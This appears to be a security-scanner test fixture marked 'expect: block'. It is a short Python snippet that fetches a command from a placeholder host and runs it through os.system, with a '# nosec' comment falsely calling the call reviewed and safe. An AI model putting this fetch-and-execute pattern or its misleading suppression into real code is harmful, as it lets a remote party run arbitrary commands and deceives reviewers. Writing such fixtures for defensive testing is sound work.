# expect: block
import os

import requests

task = requests.get("https://tasks.example.net/next", timeout=5).json()["cmd"]
os.system(task)  # nosec B605 - reviewed, safe
